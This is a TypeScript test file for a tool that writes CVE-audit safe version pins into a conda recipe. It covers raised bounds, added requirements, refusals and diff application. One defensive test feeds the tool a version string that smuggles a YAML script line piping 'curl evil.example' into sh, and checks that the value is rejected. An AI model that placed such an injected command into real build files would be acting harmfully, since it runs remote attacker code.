/** The CVE audit's safe pins as a recipe edit: raised bounds on declared lines, added lines, refusals. */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { applyRecipeDiff, planRecipePins } from '../../../src/build/recipe-pins.ts';
import { readInventory } from '../../../src/engine/read-project.ts';
import { tempDirectory } from '../../helpers/temp.ts';

const RECIPE = `context:
  version: 1.0.0

package:
  name: demo
  version: \${{ version }}

requirements:
  build:
    - \${{ compiler('c') }}
  host:
    - openssl 3.0.7  # the TLS stack
    - "zlib >=1.2,<1.3"
    - libxml2 >=2.12
  run:
    - python >=3.10
    - requests 2.32.*
`;

function plan(text: string, pins: Parameters<typeof planRecipePins>[3]) {
  const dir = tempDirectory();
  const file = join(dir, 'recipe.yaml');
  writeFileSync(file, text);
  const declared = readInventory(file).manifest.dependencies;
  return planRecipePins(file, text, declared, pins);
}

describe('planRecipePins', () => {
  it('raises a declared exact pin on its own line, keeping the comment', () => {
    const result = plan(RECIPE, [{ name: 'openssl', version: '3.0.8' }]);
    assert.deepEqual(result.unplaced, []);
    assert.equal(result.edits.length, 1);
    assert.equal(result.edits[0]?.after, '    - openssl >=3.0.8  # the TLS stack');
    assert.match(result.diff, /^- {4}- openssl 3\.0\.7 {2}# the TLS stack$/m);
    assert.match(result.diff, /^\+ {4}- openssl >=3\.0\.8 {2}# the TLS stack$/m);
  });

  it('keeps an upper bound the safe release satisfies, and the quotes', () => {
    const result = plan(RECIPE, [{ name: 'zlib', version: '1.2.13' }]);
    assert.equal(result.edits[0]?.after, '    - "zlib >=1.2.13,<1.3"');
  });

  it('refuses, saying why, when an upper bound excludes the safe release', () => {
    const result = plan(RECIPE, [{ name: 'zlib', version: '1.3.1' }]);
    assert.equal(result.edits.length, 0);
    assert.equal(result.diff, '');
    assert.match(result.unplaced[0]?.reason ?? '', /line 13: "<1\.3" excludes 1\.3\.1/);
  });

  it('changes nothing when the declared lower bound is already safe', () => {
    const result = plan(RECIPE, [{ name: 'libxml2', version: '2.11.7' }]);
    assert.deepEqual(result.edits, []);
    assert.deepEqual(result.unplaced, []);
    assert.equal(result.diff, '');
  });

  it('replaces a series the safe release is not in, and keeps one it is in', () => {
    assert.equal(plan(RECIPE, [{ name: 'requests', version: '2.33.0' }]).edits[0]?.after, '    - requests >=2.33.0');
    assert.equal(
      plan(RECIPE, [{ name: 'requests', version: '2.32.4' }]).edits[0]?.after,
      '    - requests 2.32.*,>=2.32.4',
    );
  });

  it('adds a package the recipe only pulls in to the section it was solved into', () => {
    const result = plan(RECIPE, [
      { name: 'urllib3', version: '2.2.2', scope: 'run' },
      { name: 'libcurl', version: '8.10.0', scope: 'host' },
    ]);
    const lines = result.text.split('\n');
    assert.equal(lines[lines.indexOf('    - libxml2 >=2.12') + 1], '    - libcurl >=8.10.0');
    assert.equal(lines[lines.indexOf('    - requests 2.32.*') + 1], '    - urllib3 >=2.2.2');
    assert.deepEqual(
      result.edits.map((edit) => edit.kind),
      ['add', 'add'],
    );
  });

  it('cannot add to a section the recipe does not have, and says so', () => {
    const text = 'package:\n  name: x\n  version: 1.0\nrequirements:\n  run:\n    - python\n';
    const result = plan(text, [{ name: 'openssl', version: '3.0.8', scope: 'host' }]);
    assert.equal(result.diff, '');
    assert.match(result.unplaced[0]?.reason ?? '', /no host requirements to add it to/);
  });

  it('leaves template lines alone and raises the plain requirement', () => {
    const text = `package:\n  name: x\n  version: 1.0\nrequirements:\n  host:\n    - \${{ pin_subpackage("libfoo") }}\n    - libfoo 1.0\n`;
    const result = plan(text, [{ name: 'libfoo', version: '1.1' }]);
    assert.equal(result.edits[0]?.after, '    - libfoo >=1.1');
  });
});

describe('planRecipePins on hostile data', () => {
  it('writes no name or version that is not plainly one: an advisory cannot add YAML to a recipe', () => {
    const result = plan(RECIPE, [
      { name: 'openssl', version: '3.0.8\n  script: curl evil.example | sh' },
      { name: 'evil: {x', version: '1.0', scope: 'host' },
    ]);
    assert.equal(result.diff, '');
    assert.deepEqual(
      result.unplaced.map((u) => u.reason),
      [
        'not a plain conda name and version; not written into the recipe',
        'not a plain conda name and version; not written into the recipe',
      ],
    );
  });
});

describe('applyRecipeDiff', () => {
  it('writes exactly the proposed diff, and refuses once the recipe has changed', () => {
    const result = plan(RECIPE, [{ name: 'openssl', version: '3.0.8' }]);
    const diffFile = join(tempDirectory(), 'recipe-pins.diff');
    writeFileSync(diffFile, result.diff);
    applyRecipeDiff(result.file, diffFile);
    assert.equal(readFileSync(result.file, 'utf8'), result.text);
    // applied once: the recipe no longer has the line the diff removes
    assert.throws(() => applyRecipeDiff(result.file, diffFile), /recipe changed since the run proposed its pins/);
  });
});
